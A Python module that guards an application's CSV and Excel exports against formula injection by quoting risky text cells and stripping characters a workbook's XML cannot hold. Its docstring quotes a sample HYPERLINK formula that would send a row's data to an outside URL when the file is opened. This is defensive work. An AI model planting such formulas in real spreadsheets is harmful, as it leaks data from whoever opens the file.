"""Cells for every spreadsheet and CSV file the application writes.

A spreadsheet program runs a cell that starts with ``=`` (and, on import or after an
edit, one that starts with ``+``, ``-``, ``@``, a tab or a line break) as a formula:
``=HYPERLINK("http://…/?leak="&A2, "details")`` typed into a result sheet's comment would
send the row to anyone who opens the study export. So every text cell goes through
:func:`safe_cell`, the OWASP rule for CSV injection: a text that could start a formula
gets a single quote in front (``'=HYPERLINK(…)``), which the spreadsheet shows as text.
Numbers stay numbers (a negative value is a number, not a formula); "-5 pg/mL" and "-" are
text and get the quote.

In a workbook a text is also always stored as a string: openpyxl would otherwise store a
str starting with "=" as a formula and "#N/A" as an error, and it refuses the control
characters XML cannot hold, which are dropped here instead.

A workbook the application reads back (the plate map) keeps its codes exactly: there,
:func:`xlsx_cell` with ``verbatim=True`` marks a risky text with Excel's quote prefix (the
flag typing a leading ``'`` sets), so it stays text when opened and when edited, while
the reader gets the code unchanged.

Pure: openpyxl and the standard library only.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterable, Sequence
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

__all__ = [
    "QUOTE",
    "clean_xml",
    "csv_bytes",
    "csv_row",
    "is_risky",
    "put",
    "safe_cell",
    "safe_text",
    "xlsx_cell",
    "xlsx_row",
]

QUOTE = "'"
# What may start a formula: the OWASP list (= + - @ tab CR), a line feed, and their
# full-width forms, which some spreadsheet programs read as the ASCII sign.
_TRIGGERS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
# Values a spreadsheet holds as they are: numbers, booleans, dates and times.
_PLAIN = (bool, int, float, Decimal, date, datetime, time, timedelta)
# What XML 1.0 cannot hold: openpyxl's control characters, lone surrogates, U+FFFE/FFFF.
_NOT_XML = re.compile(ILLEGAL_CHARACTERS_RE.pattern + "|[\ud800-\udfff\ufffe\uffff]")
# Longest text an Excel cell holds.
MAX_XLSX_TEXT = 32767


def is_risky(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula: it starts with a trigger,
    or with one after blanks, control or invisible characters (which some programs skip
    when they import a file)."""
    if not text:
        return False
    if text[0] in _TRIGGERS:
        return True
    for char in text:
        if char.isspace() or unicodedata.category(char) in ("Cc", "Cf"):
            continue
        return char in _TRIGGERS
    return False


def safe_text(text: str) -> str:
    """``text``, with a single quote in front when a spreadsheet could run it."""
    return QUOTE + text if is_risky(text) else text


def safe_cell(value: Any) -> Any:
    """A value as a cell should hold it: None, numbers, booleans and dates unchanged; any
    other value as text, quoted when it could start a formula."""
    if value is None or isinstance(value, _PLAIN):
        return value
    return safe_text(str(value))


# --- CSV -----------------------------------------------------------------------------------


def csv_row(values: Iterable[Any]) -> list[Any]:
    """One row for ``csv.writer``: every text made safe, None as an empty cell."""
    return ["" if value is None else safe_cell(value) for value in values]


def csv_bytes(header: Sequence[Any] | None, rows: Iterable[Iterable[Any]]) -> bytes:
    """A whole CSV file (RFC 4180: UTF-8, comma-separated, CRLF line ends), every cell
    safe.

    The CRLF line end is what makes the writer quote a cell holding a lone carriage
    return: every reader takes "\\r" for the end of a line, so unquoted it would start a
    new row with whatever follows. A lone surrogate (which no UTF-8 file can hold)
    becomes "?" rather than failing the whole download."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    if header is not None:
        writer.writerow(csv_row(header))
    for row in rows:
        writer.writerow(csv_row(row))
    return out.getvalue().encode("utf-8", errors="replace")


# --- workbooks -----------------------------------------------------------------------------


def clean_xml(value: Any) -> str:
    """``value`` as text without the characters a workbook's XML cannot hold, at most the
    length of an Excel cell."""
    text = str(value)
    text = text if text.isprintable() else _NOT_XML.sub("", text)
    return text[:MAX_XLSX_TEXT]


def _as_text(value: Any, verbatim: bool) -> tuple[str, bool]:
    """The text of a cell, and whether it must be forced to stay text."""
    text = clean_xml(value)
    risky = is_risky(text)
    if risky and not verbatim:
        text = (QUOTE + text)[:MAX_XLSX_TEXT]
    # After quoting, only openpyxl's own guesses remain: "#N/A" as an error; "=…" as a
    # formula for a verbatim text.
    return text, risky or text in ERROR_CODES


def xlsx_cell(
    ws: Any,
    value: Any,
    *,
    font: Font | None = None,
    number_format: str | None = None,
    verbatim: bool = False,
) -> Any:
    """A value for ``ws.append``, in a write-only sheet or a normal one.

    Numbers, booleans and dates stay what they are; any other value is text, stored as a
    string, quoted when it could start a formula (``verbatim``: kept as it is and marked
    with Excel's quote prefix instead). A plain value is returned when openpyxl stores it
    right by itself, which keeps large write-only sheets cheap; otherwise a cell.
    """
    if value is None or isinstance(value, _PLAIN):
        forced, prefix = False, False
    else:
        value, forced = _as_text(value, verbatim)
        prefix = forced and verbatim and is_risky(value)
    if not (forced or font or number_format):
        return value
    cell = WriteOnlyCell(ws, value=value)
    if forced:
        cell.data_type = "s"
    if prefix:
        cell.quotePrefix = True
    if font is not None:
        cell.font = font
    if number_format is not None:
        cell.number_format = number_format
    return cell


def xlsx_row(ws: Any, values: Iterable[Any], *, verbatim: bool = False) -> list[Any]:
    """One row for ``ws.append``, every cell through :func:`xlsx_cell`."""
    return [xlsx_cell(ws, value, verbatim=verbatim) for value in values]


def put(ws: Any, row: int, column: int, value: Any, *, verbatim: bool = False) -> Any:
    """Write ``value`` at (row, column) of a normal (not write-only) sheet, as
    :func:`xlsx_cell` would; returns the cell, for styling."""
    cell = ws.cell(row, column)
    if value is None or isinstance(value, _PLAIN):
        cell.value = value
        return cell
    text, forced = _as_text(value, verbatim)
    cell.value = text
    if forced:
        cell.data_type = "s"
        if verbatim and is_risky(text):
            cell.quotePrefix = True
    return cell
